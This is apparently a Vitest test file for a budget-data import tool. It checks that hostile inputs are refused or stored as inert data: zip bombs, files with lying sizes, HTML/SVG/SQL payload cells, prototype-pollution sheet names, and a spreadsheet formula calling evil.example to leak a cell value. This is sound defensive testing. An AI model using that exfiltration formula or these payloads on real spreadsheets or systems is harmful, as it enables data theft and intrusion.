/**
 * Hostile and broken files through the terminal side of the import (the same `importFile` the
 * page and `vigie check` run): each ends in its exact expected outcome, never a throw, and never
 * touches a dataset imported before it.
 */
import { readFileSync } from 'node:fs';
import { Inflate } from 'fflate';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { Engine } from '../db/engine.ts';
import { openNodeEngine } from '../db/node-engine.ts';
import { formatProblem } from '../ingest/report/format-problem.ts';
import { importFile } from '../ingest/import-file.ts';
import { runVigie } from '../ingest/fixtures/run-vigie.ts';
import { HOSTILE, PAYLOADS } from '../../../tests/fixtures/hostile/expected.ts';

const DIR = new URL('../../../tests/fixtures/hostile/', import.meta.url);
const CLEAN = new URL('../ingest/fixtures/niger-budget-fr-cp1252.csv', import.meta.url);
const read = (name: string) => new Uint8Array(readFileSync(new URL(name, DIR)));

let engine: Engine;
const totals = () =>
	engine.query(
		`SELECT count(*) AS n, sum(approved) AS approved, sum(executed) AS executed FROM budget_lines WHERE dataset_id = 'clean'`
	);
let cleanTotals: unknown;
beforeAll(async () => {
	engine = await openNodeEngine();
	await importFile(
		engine,
		{ name: 'niger.csv', bytes: new Uint8Array(readFileSync(CLEAN)) },
		{
			datasetId: 'clean'
		}
	);
	cleanTotals = await totals();
});
afterAll(async () => {
	await engine.close();
});

describe('each hostile file ends in its exact outcome, committed next to a clean dataset', () => {
	for (const [name, expected] of Object.entries(HOSTILE))
		it(`${name} (${expected.why})`, async () => {
			const result = await importFile(engine, { name, bytes: read(name) }, { datasetId: name });
			expect([result.rows, result.accepted, result.rejected]).toEqual(expected.counts);
			expect(result.problems.map((p) => `${p.row ?? 'file'}:${p.code}`)).toEqual(expected.codes);
			expect(result.committed).toBe(result.problems.every((p) => p.row !== null));
		});

	it('leaves the clean dataset imported first with the same row count and totals', async () => {
		// 11 rows; totals as computed right after its own import.
		expect(await totals()).toEqual(cleanTotals);
		expect(await totals()).toMatchObject([{ n: 11 }]);
	});
});

describe('payloads are data, never code', () => {
	it('stores HTML, SVG and SQL cells verbatim and the canonical table survives the DROP TABLE', async () => {
		const rows = await engine.query<{ institution: string }>(
			`SELECT institution FROM budget_lines WHERE dataset_id = 'payloads.csv' ORDER BY source_row`
		);
		expect(rows.map((r) => r.institution)).toEqual([
			PAYLOADS.img,
			PAYLOADS.sql,
			PAYLOADS.svgScript
		]);
	});

	it('takes a file name full of HTML and SQL as a plain dataset id', async () => {
		const name = `${PAYLOADS.img}${PAYLOADS.sql}".csv`;
		const result = await importFile(engine, { name, bytes: read('long-cell.csv') });
		expect([result.accepted, result.committed]).toEqual([2, true]);
		const ids = await engine.query(
			`SELECT DISTINCT dataset_id FROM budget_lines WHERE dataset_id = ?`,
			[name]
		);
		expect(ids).toEqual([{ dataset_id: name }]);
	});
});

describe('`vigie check` in a child process', () => {
	it('prints a translated, specific message for refused files and exits 1, without a stack trace', async () => {
		const dir = 'tests/fixtures/hostile';
		const out = await runVigie(
			'check',
			`${dir}/utf16le-bom.csv`,
			`${dir}/empty.csv`,
			`${dir}/zip-bomb.csv`,
			`${dir}/json-array.csv`,
			`${dir}/truncated-package.json`
		);
		expect(out.code).toBe(1);
		expect(out.stdout).toContain('encodage UTF-16 non pris en charge');
		// the zip
		expect(out.stdout).toContain(
			'archive ZIP qui n’est pas un classeur (elle contient : budget.csv)'
		);
		expect(out.stdout).toContain('le fichier ne contient aucune ligne de données'); // empty.csv
		expect(out.stdout).toContain(
			'ce fichier JSON ne contient aucune publication (« release ») ni aucun enregistrement (« record ») OCDS'
		);
		// 1,500 bytes of the package: 65 line breaks before the cut, so it falls on line 66
		expect(out.stdout).toContain('le fichier s’arrête avant la fin du JSON (ligne 66)');
		expect(out.stderr).not.toMatch(/at .*\.ts:\d+/);
	});
});

describe('line endings and number magnitudes', () => {
	it('takes a lone CR (old Mac line ending) as a row break: Mali and Tchad are rows 3 and 4', async () => {
		const name = 'mixed-line-endings.csv';
		const result = await importFile(engine, { name, bytes: read(name) }, { datasetId: 'cr' });
		expect([result.rows, result.accepted, result.rejected]).toEqual([4, 4, 0]);
		const rows = await engine.query(
			`SELECT source_row, country, approved FROM budget_lines WHERE dataset_id = 'cr' ORDER BY source_row`
		);
		// "1 000" FCFA on each of the 4 lines, the line numbers as an editor shows them.
		expect(rows).toEqual([
			{ source_row: 2, country: 'NER', approved: 1000 },
			{ source_row: 3, country: 'MLI', approved: 1000 },
			{ source_row: 4, country: 'TCD', approved: 1000 },
			{ source_row: 5, country: 'BFA', approved: 1000 }
		]);
	});

	it('leaves the caller’s bytes untouched when it turns a lone CR into a break', async () => {
		const bytes = read('mixed-line-endings.csv');
		const before = bytes.slice();
		await importFile(engine, { name: 'x.csv', bytes }, { commit: false });
		expect(bytes).toEqual(before);
	});

	it('rejects 1e308 FCFA as out of range with a sentence that says why and how to fix it', async () => {
		const name = 'odd-numbers.csv';
		const result = await importFile(engine, { name, bytes: read(name) }, { commit: false });
		const [first] = result.problems;
		expect(first).toMatchObject({ row: 2, value: '1e308', code: 'out_of_range' });
		expect(formatProblem(first!, 'fr')).toBe(
			'Ligne 2, colonne « Crédits votés (FCFA) » : « 1e308 » est hors limites. Attendu : une valeur inférieure à 1\u202f000\u202f000\u202f000\u202f000\u202f000 en valeur absolue (au-delà, les totaux deviennent faux). Correction : vérifiez l’unité (milliers, millions) et les zéros en trop, ou une notation comme 1e308 laissée par le tableur.'
		);
		expect(formatProblem(first!, 'en')).toContain(
			'Row 2, column “Crédits votés (FCFA)”: “1e308” is out of range. Expected: a value below 1,000,000,000,000,000'
		);
	});

	it('rejects 1e308 tenderers as out of range instead of failing the whole import on the INTEGER cast', async () => {
		const csv = [
			'ocid,buyer/name,tender/title,tender/procurementMethod,awards/0/value/amount,awards/0/value/currency,awards/0/date,tender/numberOfTenderers',
			'ocds-1,Ministère de la Défense,Rations,open,1000,XOF,2023-03-15,4',
			'ocds-2,Ministère de la Défense,Véhicules,open,2000,XOF,2023-05-02,1e308'
		].join('\n');
		const bytes = new TextEncoder().encode(csv);
		const result = await importFile(
			engine,
			{ name: 'c.csv', bytes },
			{ commit: false, country: 'NER' }
		);
		expect([result.rows, result.accepted, result.rejected]).toEqual([2, 1, 1]);
		expect(result.problems).toMatchObject([
			{ row: 3, code: 'out_of_range', value: '1e308', params: { limit: 1e9 } }
		]);
	});

	it('accepts 999 999 999 999 999 FCFA, the largest amount below the limit, and sums it exactly', async () => {
		const csv = [
			'Pays;Exercice;Ministère;Nature de la dépense;Crédits votés (FCFA);Exécution (FCFA)',
			'Niger;2022;Défense;Personnel;999 999 999 999 999;1',
			'Niger;2023;Défense;Personnel;1 000 000 000 000 000;1'
		].join('\n');
		const bytes = new TextEncoder().encode(csv);
		const result = await importFile(engine, { name: 'edge.csv', bytes }, { datasetId: 'edge' });
		expect(result.problems.map((p) => `${p.row}:${p.code}`)).toEqual(['3:out_of_range']);
		const [sum] = await engine.query<{ s: number }>(
			`SELECT sum(approved) AS s FROM budget_lines WHERE dataset_id = 'edge'`
		);
		expect(sum!.s).toBe(999_999_999_999_999); // below 2^53, so a DOUBLE holds it exactly
	});
});

describe('crafted workbooks', () => {
	it('refuses the 120 MiB worksheet from its central directory, without inflating a byte', async () => {
		const push = vi.spyOn(Inflate.prototype, 'push');
		try {
			const name = 'workbook-bomb.xlsx';
			const result = await importFile(engine, { name, bytes: read(name) }, { commit: false });
			expect(push).not.toHaveBeenCalled();
			// 120 MiB of worksheet + 1 KB of other parts, rounded up: 121 MB.
			expect(formatProblem(result.problems[0]!, 'fr')).toBe(
				'classeur trop volumineux : 121 Mo une fois décompressé. Attendu : au plus 100 Mo décompressés, ce que le navigateur lit sans risquer de se bloquer ; rien n’a été décompressé. Correction : copiez la feuille utile seule dans un nouveau classeur, sans images, ou enregistrez-la en CSV.'
			);
		} finally {
			push.mockRestore();
		}
	});

	it('stops inflating a part that claims 2,000 bytes as soon as it gives more', async () => {
		const push = vi.spyOn(Inflate.prototype, 'push');
		try {
			const name = 'workbook-lying-sizes.xlsx';
			const result = await importFile(engine, { name, bytes: read(name) }, { commit: false });
			expect(result.problems[0]).toMatchObject({
				code: 'workbook_unreadable',
				params: { error: 'xl/worksheets/sheet1.xml is larger than it declares' }
			});
			// The small parts take one 16 KB slice each; the worksheet (~120 KB deflated) stops after
			// its first slice, whose 16 MB of output already exceed 2,000 bytes.
			const pushed = push.mock.calls.reduce((sum, [chunk]) => sum + chunk.length, 0);
			expect(pushed).toBeLessThan(20_000);
		} finally {
			push.mockRestore();
		}
	});

	it('reads the sheets named constructor and __proto__ as data, polluting nothing', async () => {
		const name = 'workbook-crafted.xlsx';
		const crafted = await importFile(engine, { name, bytes: read(name) }, { datasetId: 'crafted' });
		expect(crafted.source?.sheets).toEqual([
			{ name: 'constructor', rows: 8 },
			{ name: '__proto__', rows: 2 }
		]);
		expect(formatProblem(crafted.problems[0]!, 'fr')).toBe(
			'constructor (ligne 2), colonne « Crédits votés (FCFA) » : « =HYPERLINK("http://evil.example/?q="&A2,"Cliquez ici") » ressemble à une formule de tableur. Attendu : une valeur, pas une formule. Correction : dans le tableur, copiez puis « collage spécial › valeurs » avant d’exporter.'
		);
		// The formula's cached value (1000), never its HYPERLINK; and row 7's 2500.
		const amounts = await engine.query(
			`SELECT source_row, approved FROM budget_lines WHERE dataset_id = 'crafted' ORDER BY source_row`
		);
		expect(amounts).toEqual([
			{ source_row: 4, approved: 1000 },
			{ source_row: 7, approved: 2500 }
		]);
		const proto = await importFile(
			engine,
			{ name, bytes: read(name) },
			{ sheet: '__proto__', commit: false }
		);
		expect([proto.accepted, proto.source?.sheet]).toEqual([1, '__proto__']);
		expect(Object.prototype).not.toHaveProperty('!data');
		expect({}.constructor).toBe(Object);
	});
});
